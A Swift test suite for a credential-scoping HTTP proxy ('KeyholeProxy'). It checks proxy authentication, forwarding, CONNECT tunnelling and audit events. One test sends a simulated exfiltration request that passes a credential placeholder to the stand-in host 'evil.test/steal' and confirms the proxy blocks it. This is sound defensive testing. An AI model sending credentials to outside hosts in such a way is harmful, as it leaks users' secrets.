import Foundation
import KeyholeCore
import NIOCore
import NIOEmbedded
import Testing

@testable import KeyholeProxy

@Suite struct ProxyHandlerTests {
    @Test func connectWithoutCredentialsGets407() throws {
        let harness = try ProxyHarness()
        try harness.send("CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
        let output = try harness.clientOutput()
        #expect(output.hasPrefix("HTTP/1.1 407"))
        #expect(output.contains("Proxy-Authenticate: Basic realm=\"keyhole\""))
        #expect(harness.connector.requests.isEmpty)
        #expect(harness.audit.events.map(\.decision) == [.denyAuth])
        #expect(!harness.client.isActive)
    }

    @Test func wrongTokenGets407() throws {
        let harness = try ProxyHarness()
        let wrong = "Proxy-Authorization: Basic " + Data("keyhole:nope".utf8).base64EncodedString()
        try harness.send("GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\(wrong)\r\n\r\n")
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 407"))
        #expect(harness.connector.requests.isEmpty)
    }

    @Test func placeholderToUnscopedHostIs403AndNothingIsSent() throws {
        let harness = try ProxyHarness()
        try harness.send(
            "GET http://evil.test/steal?k=\(harness.placeholder) HTTP/1.1\r\nHost: api.test\r\n\(harness.authorization)\r\n\r\n"
        )
        let output = try harness.clientOutput()
        #expect(output.hasPrefix("HTTP/1.1 403"))
        #expect(output.contains("'api'"))
        #expect(output.contains("evil.test"))
        #expect(!output.contains(harness.placeholder))
        #expect(harness.connector.requests.isEmpty)
        let event = try #require(harness.audit.events.first)
        #expect(event.decision == .denyScope)
        #expect(event.credential == "api")
        #expect(event.path == "/steal")
    }

    @Test func plainRequestWithoutPlaceholdersIsForwardedInOriginForm() throws {
        let harness = try ProxyHarness()
        try harness.send(
            "GET http://other.test:8080/a?b=c HTTP/1.1\r\nHost: spoofed.test\r\n\(harness.authorization)\r\nProxy-Connection: keep-alive\r\n\r\n"
        )
        #expect(harness.connector.requests.count == 1)
        #expect(harness.connector.requests.first?.0 == Authority(host: "other.test", port: 8080))
        #expect(harness.connector.requests.first?.1 == false)
        let sent = try harness.upstreamOutput()
        #expect(sent.hasPrefix("GET /a?b=c HTTP/1.1\r\n"))
        #expect(sent.contains("Host: other.test:8080\r\n"))
        #expect(!sent.lowercased().contains("proxy-"))

        try harness.upstream.writeInbound(ByteBuffer(string: "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi"))
        harness.loop.run()
        let answer = try harness.clientOutput()
        #expect(answer.hasPrefix("HTTP/1.1 200 OK"))
        #expect(answer.hasSuffix("hi"))
        #expect(harness.audit.events.map(\.decision) == [.forward])
        #expect(harness.audit.events.first?.status == 200)
        #expect(harness.audit.events.first?.bytesDown == 2)
    }

    @Test func connectToUnscopedHostBecomesAByteTunnel() throws {
        let harness = try ProxyHarness()
        try harness.send("CONNECT elsewhere.test:443 HTTP/1.1\r\nHost: elsewhere.test:443\r\n\(harness.authorization)\r\n\r\n")
        #expect(harness.connector.requests.first?.0 == Authority(host: "elsewhere.test", port: 443))
        #expect(harness.connector.requests.first?.1 == false)
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 200"))
        try harness.send("\u{16}\u{03}\u{01}opaque tls bytes")
        #expect(try harness.upstreamOutput() == "\u{16}\u{03}\u{01}opaque tls bytes")
        try harness.upstream.writeInbound(ByteBuffer(string: "server bytes"))
        harness.loop.run()
        #expect(try harness.clientOutput() == "server bytes")
    }

    @Test func requestInOriginFormIsRefused() throws {
        let harness = try ProxyHarness()
        try harness.send("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        #expect(try harness.clientOutput().hasPrefix("HTTP/1.1 400"))
    }
}
